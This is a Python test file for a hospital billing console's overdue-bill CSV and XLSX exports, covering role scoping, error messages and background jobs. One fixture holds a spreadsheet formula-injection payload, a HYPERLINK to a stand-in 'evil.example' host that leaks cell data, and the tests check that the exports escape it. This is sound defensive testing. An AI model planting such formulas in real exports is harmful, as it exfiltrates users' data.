"""The exports over real HTTP on loopback, mounted on a bare aiohttp app as the console will
mount them: streamed downloads, each role's scope, bad requests, and a background export's
progress, download and cancellation."""
from __future__ import annotations

import asyncio
import csv
import io
from datetime import timedelta
from urllib.parse import unquote

import pytest
from aiohttp import web
from openpyxl import load_workbook

from billing import members, visits
from billing.exports import Scope
from billing.hospitals import add_hospital
from billing.staff import add_staff
from billing.sweep import sweep
from bot.exports_http import EXPORT_JOBS, Viewer, setup
from bot.hospital_api import CORE
from conftest import DUE
from storage.db import Database

ZHANG_WEI, ZHANG_PHONE = "110105198503120012", "13912345678"
LIU_YANG, LIU_PHONE = "11010819920709006X", "13800138000"
EVIL_HOSPITAL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
async def db(tmp_path):
    """SQLite only: what differs by backend is the query, tested in tests/billing/test_exports.py."""
    database = Database(f"sqlite+inline:///{tmp_path / 'test.db'}")
    await database.create_all()
    yield database
    await database.close()


async def _bill(core, id_number: str, hospital: str, amount_fen: int, visit_no: str) -> str:
    await visits.open_visit(core, hospital, {"visit_no": visit_no, "id_number": id_number, "department": "内科",
                                             "kind": "outpatient", "exclusion": None})
    await visits.post_charge(core, hospital, visit_no, {"charge_no": f"C{visit_no}", "category": "exam", "name": "检查",
                                                        "amount_fen": amount_fen})
    answer = await visits.checkout(core, hospital, visit_no, {"items": [
        {"charge_no": f"C{visit_no}", "insurance_fen": 0, "personal_account_fen": 0, "self_pay_fen": amount_fen}]})
    return answer["bill_no"]


@pytest.fixture
async def console(aiohttp_client, make_core, clock):
    """Zhang Wei (onboarded by a community worker) owes at H1 and at H2, whose name is a
    spreadsheet formula; Liu Yang owes at H1. All three bills are an hour past due."""
    core = await make_core()
    await add_hospital(core, "H2", EVIL_HOSPITAL, secret="hospital-secret-0123456789")
    staff_id = await add_staff(core, "oStaffWang", "王社工")
    for name, number, phone, staff in (("张伟", ZHANG_WEI, ZHANG_PHONE, staff_id), ("刘洋", LIU_YANG, LIU_PHONE, None)):
        await members.enrol(core, openid=None, name=name, id_number=number, phone=phone, staff_id=staff,
                            consent_version=core.policy.consent_version, commitment_version=core.policy.commitment_version)
    bills = [await _bill(core, ZHANG_WEI, "H1", 10000, "V1"), await _bill(core, ZHANG_WEI, "H2", 2000, "V2"),
             await _bill(core, LIU_YANG, "H1", 8000, "V3")]
    clock.set(DUE + timedelta(hours=1))
    await sweep(core)
    accounts = {
        "operator": Viewer(Scope(), "zh_Hans", "operator", {"csrf": "token-1"}),
        "h2": Viewer(Scope(hospital="H2"), "en", "h2"),
        "community": Viewer(Scope(staff_ids=frozenset({staff_id})), "zh_Hant", "community"),
        "other-operator": Viewer(Scope(), "zh_Hans", "other-operator"),
    }

    async def viewer(request: web.Request) -> Viewer:  # what the console's session and role check will answer
        account = accounts.get(request.headers.get("X-Account", ""))
        if account is None:
            raise web.HTTPForbidden(text="login first")
        return account

    app = web.Application()
    app[CORE] = core
    setup(app, viewer)
    client = await aiohttp_client(app)
    client.bills = bills
    return client


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # the BOM Excel in China needs
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _no_full_numbers(body: bytes | str) -> None:
    text = body.decode("utf-8-sig") if isinstance(body, bytes) else body
    for number in (ZHANG_WEI, ZHANG_PHONE, LIU_YANG, LIU_PHONE):
        assert number not in text


async def test_the_overdue_list_streams_as_csv_with_a_utf8_file_name(console):
    response = await console.get("/admin/exports/overdue.csv", headers={"X-Account": "operator"})
    assert response.status == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Transfer-Encoding"] == "chunked"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="overdue-20260304-1800.csv"; filename*=UTF-8\'\'')
    assert unquote(disposition.split("''", 1)[1]) == "逾期账单-20260304-1800.csv"
    body = await response.read()
    _no_full_numbers(body)
    rows = _csv(body)
    assert rows[0][:4] == ["账单号", "医院代码", "医院", "姓名"]
    assert [row[:7] + row[9:] for row in rows[1:]] == [  # the interest (fen, paid) last: none without an institution
        [console.bills[0], "H1", "测试医院", "张伟", "110105********0012", "139****5678", "suspended", "10000", "100.00",
         "2026-03-04 17:00", "0", "advanced", "2026-03-04 17:00", "2026-03-04 18:00", "0", "0"],
        # The hospital's name would run as a formula: a leading quote keeps it text.
        [console.bills[1], "H2", "'" + EVIL_HOSPITAL, "张伟", "110105********0012", "139****5678", "suspended", "2000",
         "20.00", "2026-03-04 17:00", "0", "advanced", "2026-03-04 17:00", "2026-03-04 18:00", "0", "0"],
        [console.bills[2], "H1", "测试医院", "刘洋", "110108********006X", "138****8000", "suspended", "8000", "80.00",
         "2026-03-04 17:00", "0", "advanced", "2026-03-04 17:00", "2026-03-04 18:00", "0", "0"],
    ]


async def test_xlsx_has_typed_cells_and_no_formula(console):
    response = await console.get("/admin/exports/overdue.xlsx", headers={"X-Account": "h2"})
    assert response.status == 200
    assert response.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="overdue-20260304-1800.xlsx"' in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(await response.read())).active
    assert sheet.title == "Overdue bills"
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]][:4] == ["Bill number", "Hospital code", "Hospital", "Name"]
    assert len(rows) == 2  # H2's account sees H2's bill only
    hospital, unpaid_yuan, due = rows[1][2], rows[1][10], rows[1][11]
    assert (hospital.value, hospital.data_type) == ("'" + EVIL_HOSPITAL, "s")
    assert (unpaid_yuan.value, unpaid_yuan.number_format) == (20, "0.00")
    assert (due.value.isoformat(), due.number_format) == ("2026-03-04T17:00:00", "yyyy-mm-dd hh:mm")
    for row in rows:
        _no_full_numbers(" ".join(str(cell.value) for cell in row))


async def test_each_account_sees_its_scope_and_asks_for_no_more(console):
    async def bill_numbers(account: str, query: str = "") -> list[str]:
        response = await console.get(f"/admin/exports/overdue.csv{query}", headers={"X-Account": account})
        assert response.status == 200, await response.text()
        return [row[0] for row in _csv(await response.read())[1:]]

    assert await bill_numbers("community") == console.bills[:2]  # Zhang Wei's, whom their worker onboarded
    assert await bill_numbers("h2") == console.bills[1:2]
    assert await bill_numbers("operator", "?hospital=H1") == [console.bills[0], console.bills[2]]
    assert await bill_numbers("operator", "?from=2026-03-05") == []
    assert await bill_numbers("operator", "?from=2026-03-04&to=2026-03-04") == console.bills
    refused = await console.get("/admin/exports/overdue.csv?hospital=H1", headers={"X-Account": "h2"})
    assert (refused.status, await refused.text()) == (403, "You can export only your own hospital's data.")
    assert (await console.get("/admin/exports/overdue.csv")).status == 403  # no account: the console's check


@pytest.mark.parametrize(("path", "status", "message"), [
    ("/admin/exports/overdue.csv?from=2026-13-01", 400, "日期格式应为 2026-03-01：2026-13-01"),
    ("/admin/exports/overdue.csv?from=2026-03-05&to=2026-03-04", 400, "开始日期晚于结束日期。"),
    ("/admin/exports/overdue.csv?hospital=H9", 404, "no hospital with the code 'H9'"),
    ("/admin/exports/overdue.xlsx?hospital=H9", 404, "no hospital with the code 'H9'"),
    ("/admin/exports/members.csv", 404, "没有这种导出。"),
    ("/admin/exports/jobs/nothing-here", 404, "没有这个导出，或它已过期。"),
])
async def test_bad_requests_get_one_clear_line(console, path, status, message):
    response = await console.get(path, headers={"X-Account": "operator"})
    assert (response.status, await response.text()) == (status, message)


async def test_an_empty_export_is_its_headers(console):
    for fmt in ("csv", "xlsx"):
        response = await console.get(f"/admin/exports/credit-report.{fmt}", headers={"X-Account": "operator"})
        body = await response.read()
        rows = _csv(body) if fmt == "csv" else list(load_workbook(io.BytesIO(body)).active.values)
        assert len(rows) == 1 and rows[0][0] == "姓名"


async def _progress(console, job: str, account: str = "operator") -> dict:
    response = await console.get(f"/admin/exports/jobs/{job}/progress", headers={"X-Account": account})
    assert response.status == 200
    return await response.json()


async def _finished(console, job: str) -> dict:
    for _ in range(500):
        progress = await _progress(console, job)
        if progress["state"] != "running":
            return progress
        await asyncio.sleep(0.02)
    raise AssertionError(f"the export is still running: {progress}")


async def test_a_background_export_shows_progress_then_offers_its_file(console):
    operator = {"X-Account": "operator"}
    started = await console.post("/admin/exports/overdue.xlsx", data={"from": "2026-03-04"}, headers=operator,
                                 allow_redirects=False)
    assert started.status == 303
    job = started.headers["Location"].rsplit("/", 1)[1]
    progress = await _finished(console, job)
    assert progress == {"state": "done", "rows": 3, "error": None, "file": f"/admin/exports/jobs/{job}/file"}
    page = await (await console.get(f"/admin/exports/jobs/{job}", headers=operator)).text()
    assert "导出完成：共 3 行。" in page and f'href="/admin/exports/jobs/{job}/file"' in page and "refresh" not in page
    download = await console.get(f"/admin/exports/jobs/{job}/file", headers=operator)
    assert download.status == 200 and "逾期账单" in unquote(download.headers["Content-Disposition"])
    assert len(list(load_workbook(io.BytesIO(await download.read())).active.values)) == 4
    # Another account cannot see it, not even that it exists.
    assert (await console.get(f"/admin/exports/jobs/{job}/file", headers={"X-Account": "other-operator"})).status == 404


async def test_a_running_export_can_be_cancelled_and_leaves_no_file(console):
    operator = {"X-Account": "operator"}
    core, jobs = console.server.app[CORE], console.server.app[EXPORT_JOBS]
    async with core.db.transaction():  # on SQLite the export's first read waits for this one: it stays at 0 rows
        started = await console.post("/admin/exports/overdue.csv", headers=operator, allow_redirects=False)
        job = started.headers["Location"].rsplit("/", 1)[1]
        page = await (await console.get(f"/admin/exports/jobs/{job}", headers=operator)).text()
        assert "已写入 0 行，请稍候……" in page and 'http-equiv="refresh"' in page
        assert '<input type="hidden" name="csrf" value="token-1">' in page  # the console's token rides along
        assert (await _progress(console, job))["state"] == "running"
        not_yet = await console.get(f"/admin/exports/jobs/{job}/file", headers=operator)
        assert (not_yet.status, await not_yet.text()) == (409, "导出还没有完成。")
        cancelled = await console.post(f"/admin/exports/jobs/{job}/cancel", data={"csrf": "token-1"}, headers=operator,
                                       allow_redirects=False)
        assert cancelled.status == 303
    assert (await _progress(console, job))["state"] == "cancelled"
    assert list(jobs.folder.iterdir()) == []
    assert "导出已取消。" in await (await console.get(f"/admin/exports/jobs/{job}", headers=operator)).text()


async def test_a_failed_export_says_why_and_leaves_no_file(console):
    started = await console.post("/admin/exports/credit-report.csv", data={"hospital": "H9"},
                                 headers={"X-Account": "operator"}, allow_redirects=False)
    job = started.headers["Location"].rsplit("/", 1)[1]
    progress = await _finished(console, job)
    assert progress == {"state": "failed", "rows": 0, "error": "no hospital with the code 'H9'", "file": None}
    assert list(console.server.app[EXPORT_JOBS].folder.iterdir()) == []
